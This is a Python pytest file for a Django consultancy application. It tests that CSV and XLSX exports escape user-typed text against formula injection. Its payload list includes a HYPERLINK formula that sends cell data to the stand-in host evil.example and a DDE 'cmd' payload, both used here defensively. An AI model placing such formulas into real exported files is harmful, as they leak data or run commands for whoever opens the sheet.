"""User text in every CSV/XLSX export is never a formula (CSV / formula injection): the
engagement list, the complaint register (dashboard) and the satisfaction answers (9.5)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from consultancy.documents.spreadsheets import csv_text, is_formula_like, xlsx_append
from feedback import services as feedback_services
from tests import factories as f
from tests.conftest import login
from tests.scoping import scopes_disabled

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/"&B2,"详情见附件")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_neutraliser(text):
    assert is_formula_like(text)
    assert csv_text(text) == "'" + text
    assert csv_text("安全生产标准化") == "安全生产标准化"
    assert csv_text(-5) == -5  # numbers are the application's, not typed text


def test_xlsx_cells_with_formula_text_are_strings():
    from openpyxl import Workbook

    wb = Workbook()
    xlsx_append(wb.active, ["=1+1", "普通", 3])
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert row[0].data_type == "s" and row[0].value == "=1+1"
    assert row[1].value == "普通" and row[2].value == 3


def _csv_cells(response):
    return [c for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in r]


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [c for row in sheet.iter_rows() for c in row]


def _assert_no_formula(response, kind, payload):
    if kind == "csv":
        cells = _csv_cells(response)
        assert "'" + payload in cells
        assert not any(is_formula_like(c) for c in cells)
    else:
        cells = _xlsx_cells(response)
        assert any(c.value == payload for c in cells)
        assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_engagement_export_keeps_typed_text_as_text(client, a, b, kind, payload):
    with scopes_disabled():
        f.EngagementFactory(client=a.client, lead_consultant=a.consultant, title=payload)
        client_row = f.ClientFactory(firm=a.firm, name=payload + "有限公司")
        f.EngagementFactory(client=client_row, lead_consultant=a.consultant, title="正常")
        f.EngagementFactory(client=b.client, lead_consultant=b.consultant, title="乙方=B")
    response = login(client, a.manager).get(
        reverse("dashboard:export_engagements", args=[kind]))
    assert response.status_code == 200
    _assert_no_formula(response, kind, payload)
    _assert_no_formula(response, kind, payload + "有限公司")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_complaint_export_keeps_typed_text_as_text(client, a, b, kind):
    payload = PAYLOADS[0]
    with scopes_disabled():
        feedback_services.complaint_receive(
            firm=a.firm, by=a.manager, received_on=timezone.localdate()
            - datetime.timedelta(days=1), channel="portal", complainant_name="@" + payload,
            description=payload)
    response = login(client, a.manager).get(reverse("dashboard:export_complaints", args=[kind]))
    assert response.status_code == 200
    _assert_no_formula(response, kind, payload)
    _assert_no_formula(response, kind, "@" + payload)


def test_statistics_csv_keeps_every_typed_column_as_text(client, a, b):
    from tests.feedback.test_statistics import PERIOD, at

    payload = PAYLOADS[0]
    with scopes_disabled():
        contact = f.ClientContactFactory(client=a.client, name="-" + payload)
        e = f.EngagementFactory(client=a.client, lead_consultant=a.consultant,
                                title="+" + payload)
        f.survey_answers(e, sent_at=at(2026, 2, 1), scores={"overall": 5}, comment=payload,
                         contact=contact)
    response = login(client, a.manager).get(reverse("feedback:statistics_csv"), PERIOD)
    cells = _csv_cells(response)
    for text in (payload, "+" + payload, "-" + payload):
        assert "'" + text in cells
    assert not any(is_formula_like(c) for c in cells)
